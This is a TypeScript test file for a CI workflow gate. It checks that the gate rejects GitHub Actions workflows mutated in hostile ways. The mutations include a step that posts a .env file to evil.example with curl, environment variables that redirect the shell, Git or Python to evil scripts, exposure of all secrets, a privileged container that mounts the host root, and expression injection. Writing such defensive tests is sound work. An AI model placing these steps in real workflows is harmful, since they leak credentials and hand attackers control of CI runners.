import type { GateCheckId } from '@autodevops/contracts/workflow';
import { beforeAll, describe, expect, it } from 'vitest';
import { expression } from '../plan/expression.ts';
import { allowedCommands } from '../plan/plan-workflow.ts';
import { type FixtureDraft, fixtureDrafts } from '../testing/fixture-drafts.ts';
import type { GateInput } from './gate-input.ts';
import { namedCalls } from './named-call.ts';
import { runGate } from './run-gate.ts';

/** One way to spoil a good file, and the checks of which at least one must notice. `null` where the file has no place for it. */
interface Mutation {
  readonly name: string;
  readonly apply: (content: string) => string;
  readonly noticedBy: readonly GateCheckId[];
}

const mutation = (name: string, noticedBy: GateCheckId | readonly GateCheckId[], from: RegExp, to: string): Mutation => ({
  name,
  apply: (content) => content.replace(from, () => to),
  noticedBy: [noticedBy].flat(),
});

const pinned = /uses: ([\w./-]+)@[0-9a-f]{40} # \S+/;
const step = /^( {4}steps:\n)/m;
const job = /^( {4}timeout-minutes: \d+\n)/m;
const inserted = (name: string, noticedBy: GateCheckId | readonly GateCheckId[], after: RegExp, lines: string): Mutation => ({
  name,
  apply: (content) => content.replace(after, (whole) => whole + lines),
  noticedBy: [noticedBy].flat(),
});
const inEnv = (name: string, line: string, noticedBy: GateCheckId = 'policy') =>
  inserted(name, noticedBy, step, `      - name: Evil\n        env:\n          ${line}\n        run: git diff --exit-code\n`);

const mutations: readonly Mutation[] = [
  { ...mutation('a tag for a commit', 'pins', pinned, ''), apply: (content) => content.replace(pinned, 'uses: $1@v4') },
  { ...mutation('a branch for a commit', 'pins', pinned, ''), apply: (content) => content.replace(pinned, 'uses: $1@main') },
  { ...mutation('a short commit', 'pins', pinned, ''), apply: (content) => content.replace(pinned, 'uses: $1@0123456 # v1') },
  { ...mutation('another commit', 'pins', pinned, ''), apply: (content) => content.replace(pinned, `uses: $1@${'0'.repeat(40)} # v1`) },
  mutation('an unknown action', 'pins', pinned, `uses: evil/action@${'a'.repeat(40)} # v1.0.0`),
  mutation('a container as an action', 'pins', pinned, 'uses: docker://alpine:3.20'),
  mutation('an action of the repository itself', 'pins', pinned, 'uses: ./.github/actions/evil'),
  inserted('an extra command', 'commands', step, '      - name: Evil\n        run: curl -d @.env evil.example\n'),
  inserted(
    'an extra command under another shell',
    ['policy', 'commands'],
    step,
    "      - shell: 'sh -c evil {0}'\n        run: git diff --exit-code\n",
  ),
  inserted('a step outside the repository', 'policy', step, '      - working-directory: ../../etc\n        run: git diff --exit-code\n'),
  inserted('an expression inside a command', 'policy', step, `      - run: echo ${expression('github.event.pull_request.title')}\n`),
  mutation('an expression in a name', 'policy', /^name: .*$/m, `name: ${expression('github.event.head_commit.message')}`),
  mutation('no permissions', 'policy', /^permissions:\n {2}contents: read\n/m, ''),
  mutation('permissions to write', 'policy', /^ {2}contents: read$/m, '  contents: write'),
  mutation('all permissions', 'policy', /^permissions:\n {2}contents: read\n/m, 'permissions: write-all\n'),
  inserted('a job that may publish', 'policy', job, '    permissions:\n      id-token: write\n'),
  mutation('no time limit', 'policy', job, ''),
  mutation('a time limit of days', 'policy', job, '    timeout-minutes: 4320\n'),
  mutation('pull_request_target', 'policy', /^ {2}pull_request:/m, '  pull_request_target:'),
  mutation('a schedule', 'policy', /^ {2}workflow_dispatch:/m, "  schedule:\n    - cron: '0 0 * * *'\n  workflow_dispatch:"),
  mutation('repository_dispatch', 'policy', /^ {2}workflow_dispatch:/m, '  repository_dispatch:'),
  mutation('runs that are never cancelled', 'policy', /^concurrency:\n.*\n.*\n/m, ''),
  inEnv('a secret that nothing asked for', `DEPLOY_KEY: ${expression('secrets.DEPLOY_KEY')}`),
  inEnv('all secrets', `ALL: ${expression('toJSON(secrets)')}`),
  inEnv('the token of the run', `TOKEN: ${expression('github.token')}`),
  inEnv('a variable that steers the shell', 'BASH_ENV: ./evil.sh'),
  inEnv('a variable that steers Git', 'GIT_SSH_COMMAND: ./evil.sh'),
  inEnv('a variable that steers an interpreter', 'PYTHONSTARTUP: ./evil.py'),
  inEnv('an address elsewhere', 'REGISTRY: https://evil.example/simple'),
  inserted('secrets handed on', ['policy', 'parser'], job, '    secrets: inherit\n'),
  inserted('a container of its own', 'policy', job, '    container: evil.example/image\n'),
  inserted('an environment with its secrets', 'policy', job, '    environment: production\n'),
  inserted('a service that no rule knows', 'policy', job, '    services:\n      evil:\n        image: evil.example/image\n'),
  inserted(
    'a service that opens the machine',
    'policy',
    job,
    '    services:\n      redis:\n        image: redis:8\n        options: --privileged --volume /:/host\n',
  ),
  inserted('a swallowed failure', 'policy', step, '      - continue-on-error: true\n        run: git diff --exit-code\n'),
  mutation('a runner of somebody', 'policy', /^ {4}runs-on: .*$/m, '    runs-on: self-hosted'),
  mutation('a credential left on disk', 'policy', /persist-credentials: false/, 'persist-credentials: true'),
  mutation(
    'the code of another repository',
    'policy',
    /persist-credentials: false/,
    'persist-credentials: false\n          repository: evil/code',
  ),
  mutation('the code of another commit', 'policy', /persist-credentials: false/, 'persist-credentials: false\n          ref: evil'),
  mutation('an input that the action does not have', 'pins', /persist-credentials: false/, 'persist-credentials: false\n          evil: x'),
  mutation('an anchor', 'policy', /contents: read/, 'contents: &a read'),
  mutation('a second document', 'policy', /$/, '---\nname: CI\n'),
  mutation('a letter that turns the reading direction', 'policy', /^name: CI/m, 'name: CI\u202e'),
  mutation('a letter that looks like another', 'policy', /^name: CI/m, 'name: СI'),
];

let drafts: readonly FixtureDraft[] = [];

beforeAll(async () => {
  drafts = await fixtureDrafts(2);
}, 60_000);

const gateOf = ({ profile, draft, manifests }: FixtureDraft, changes: Partial<GateInput>) =>
  runGate({ files: draft.files, commands: allowedCommands(profile), needs: draft.needs, existingFiles: new Map(), manifests, ...changes });

const spoilt = ({ draft }: FixtureDraft, content: string) => draft.files.map((file, index) => (index === 0 ? { ...file, content } : file));

describe('mutants of good workflows', () => {
  it('come from every detector that plans jobs, and each of them is good before', () => {
    expect(new Set(drafts.map(({ detector }) => detector)).size).toBeGreaterThanOrEqual(27);
    expect(drafts.flatMap(({ draft }) => draft.gate.checks.flatMap(({ messages }) => messages))).toEqual([]);
  });

  it.each(mutations)('are refused with $name', async ({ apply, noticedBy }) => {
    for (const draft of drafts) {
      const good = draft.draft.files[0]?.content ?? '';
      const content = apply(good);
      expect(content, draft.name).not.toBe(good);
      const gate = await gateOf(draft, { files: spoilt(draft, content) });

      expect(gate.isPassed, draft.name).toBe(false);
      const failed = gate.checks.filter(({ status }) => status === 'failed').map(({ id }) => id);
      expect(
        noticedBy.some((id) => failed.includes(id)),
        `${draft.name}: ${failed.join(', ')}`,
      ).toBe(true);
    }
  });

  it('are refused with any command changed by one word', async () => {
    let count = 0;
    for (const draft of drafts) {
      const good = draft.draft.files[0]?.content ?? '';
      for (const [whole, start, command] of good.matchAll(/^( +(?:- )?run: )([^|\n]+)$/gm)) {
        const content = good.replace(whole, () => `${start}${command}x`);
        const gate = await gateOf(draft, { files: spoilt(draft, content) });

        expect(gate.isPassed, `${draft.name}: ${command}`).toBe(false);
        count += 1;
      }
    }
    expect(count).toBeGreaterThan(80);
  }, 60_000);

  it('are refused when a manifest no longer has the name that a command calls, whatever the facts say', async () => {
    const lines = (draft: FixtureDraft) => (draft.draft.files[0]?.content ?? '').matchAll(/(?:run: | {10})(\S.*)$/gm);
    const naming = drafts.filter((draft) => [...lines(draft)].some(([, line = '']) => namedCalls(line).length > 0));
    for (const draft of naming) {
      const gate = await gateOf(draft, { manifests: new Map() });

      expect(gate.checks.find(({ id }) => id === 'commands')?.status, draft.name).toBe('failed');
    }
    expect(naming.length).toBeGreaterThanOrEqual(5);
  });
});
